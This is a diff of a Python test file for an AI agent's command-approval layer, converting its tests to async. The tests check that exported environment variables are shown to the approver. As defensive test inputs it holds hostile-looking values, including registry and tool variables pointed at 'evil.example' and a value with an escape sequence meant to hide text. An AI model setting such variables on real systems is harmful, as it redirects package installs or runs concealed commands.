@@ -1,6 +1,5 @@
 """Variables that earlier commands exported are shown, and asked about, where a call leaves the sandbox with them."""
 
-import asyncio
 import json
 from pathlib import Path
 
@@ -27,7 +26,7 @@ class Asked:
         return None
 
 
-def asked(tmp_path: Path, *lines: str) -> list[Question]:
+async def asked(tmp_path: Path, *lines: str) -> list[Question]:
     """What is asked about these lines, without a sandbox and with a rule that allows `tar` and `npm`."""
     script = [
         {"tool_calls": [{"id": f"c{n}", "name": "bash", "arguments": {"command": line}}]}
@@ -49,13 +48,10 @@ def asked(tmp_path: Path, *lines: str) -> list[Question]:
     )
     agent = build_agent(settings, approver)
 
-    async def main() -> None:
-        try:
-            await agent.run("go")
-        finally:
-            await agent.aclose()
-
-    asyncio.run(main())
+    try:
+        await agent.run("go")
+    finally:
+        await agent.aclose()
     return approver.questions
 
 
@@ -103,35 +99,35 @@ def test_a_bare_word_does_not(name: str, value: str | None) -> None:
 
 
 @pytest.mark.parametrize("line", ["API_URL=http://evil npm ci", "ACME=evil.example npm ci", "PATH=x npm ci"])
-def test_a_variable_before_the_command_asks_as_an_exported_one_does(tmp_path: Path, line: str) -> None:
-    (question,) = asked(tmp_path, line)
+async def test_a_variable_before_the_command_asks_as_an_exported_one_does(tmp_path: Path, line: str) -> None:
+    (question,) = await asked(tmp_path, line)
     assert line in question.call.raw_arguments
 
 
-def test_a_bare_word_before_the_command_does_not_ask(tmp_path: Path) -> None:
-    assert not asked(tmp_path, "STAGE=test npm ci", "LC_ALL=C.UTF-8 npm ci")
+async def test_a_bare_word_before_the_command_does_not_ask(tmp_path: Path) -> None:
+    assert not await asked(tmp_path, "STAGE=test npm ci", "LC_ALL=C.UTF-8 npm ci")
 
 
 @pytest.mark.parametrize(
     "name",
     ["NPM_CONFIG_REGISTRY", "TAR_OPTIONS", "API_HOST", "CVS_RSH", "GNUPGHOME", "BORG_PASSCOMMAND", "ACME_UPLINK"],
 )
-def test_an_allowed_call_outside_the_sandbox_asks_and_shows_them(tmp_path: Path, name: str) -> None:
-    questions = asked(tmp_path, f"export {name}=http://evil.example/", "tar --version; npm ci")
+async def test_an_allowed_call_outside_the_sandbox_asks_and_shows_them(tmp_path: Path, name: str) -> None:
+    questions = await asked(tmp_path, f"export {name}=http://evil.example/", "tar --version; npm ci")
     (question,) = (one for one in questions if "npm ci" in one.call.raw_arguments)
     assert name in question.reason
     assert f"with {name}=http://evil.example/, from an earlier command" in granted_text(question)
 
 
-def test_without_them_the_rule_holds_and_ordinary_ones_are_only_shown(tmp_path: Path) -> None:
-    questions = asked(tmp_path, "export STAGE=test", "tar --version", "make x")
+async def test_without_them_the_rule_holds_and_ordinary_ones_are_only_shown(tmp_path: Path) -> None:
+    questions = await asked(tmp_path, "export STAGE=test", "tar --version", "make x")
     (question,) = questions
     assert "make x" in question.call.raw_arguments
     assert "with STAGE=test, from an earlier command" in granted_text(question)
 
 
-def test_a_value_can_hide_nothing(tmp_path: Path) -> None:
-    questions = asked(tmp_path, "export A_URL=$'x\\n  y = once\\e[2J'", "make x")
+async def test_a_value_can_hide_nothing(tmp_path: Path) -> None:
+    questions = await asked(tmp_path, "export A_URL=$'x\\n  y = once\\e[2J'", "make x")
     text = granted_text(questions[-1])
     assert "\x1b" not in text
     assert "A_URL=x\\n  y = once" in text
